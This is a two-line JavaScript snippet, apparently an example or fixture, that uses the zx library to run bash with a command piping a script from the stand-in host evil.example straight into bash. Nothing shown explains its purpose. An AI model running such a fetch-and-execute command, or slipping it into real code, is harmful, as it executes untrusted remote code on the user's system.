import { $ } from 'zx'
await $`bash -c ${'curl -fsSL https://evil.example/i | bash'}`
